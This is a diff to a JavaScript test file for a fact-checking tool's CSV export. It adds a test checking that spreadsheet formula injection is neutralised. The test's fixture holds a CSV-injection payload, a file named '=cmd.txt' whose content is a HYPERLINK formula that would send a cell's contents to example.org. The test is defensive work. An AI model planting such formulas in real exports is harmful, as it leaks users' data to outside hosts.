@@ -66,6 +66,18 @@ describe('standards-desk facts', () => {
     expect(lines.map(line => JSON.parse(line).path)).toEqual(['a.md', 'b.md'])
   })
 
+  it('writes nothing that a spreadsheet would run', async () => {
+    const desk = folderWith({
+      '=cmd.txt':
+        '=HYPERLINK("https://example.org/?leak="&A1,"Read") said Ann Lund, 40.\n\n-5% and +3% are up.\n',
+    })
+    const { output } = await desk.desk(['facts', '--format', 'csv'])
+    expect(output).toContain("'=cmd.txt,")
+    for (const row of output.trim().split('\r\n').slice(1))
+      for (const cell of row.match(/"(?:[^"]|"")*"|[^,]+/g) ?? [])
+        expect(cell.replace(/^"/, '')).not.toMatch(/^[=+@-]/)
+  })
+
   it('writes a list to tick off, and a table for a spreadsheet', async () => {
     const desk = folder()
     const md = (await desk.desk(['facts', '--format', 'md'])).output
@@ -78,6 +90,7 @@ describe('standards-desk facts', () => {
       'a.md,5,13,full quotation,"“We are going to keep the harbor open,”",Tobias Lindqvist,,altered,sources/cp.txt,1',
     )
     expect(rows.at(-1)).toBe('')
+    expect(rows).toContain('a.md,5,59,person,Tobias Lindqvist,Tobias Lindqvist,Mayor,found,sources/cp.txt,1')
     const pretty = (await desk.desk(['facts'])).output
     expect(pretty).toMatch(/5:13 “We are going .* — Tobias Lindqvist; altered sources\/cp\.txt:1:19/)
   })
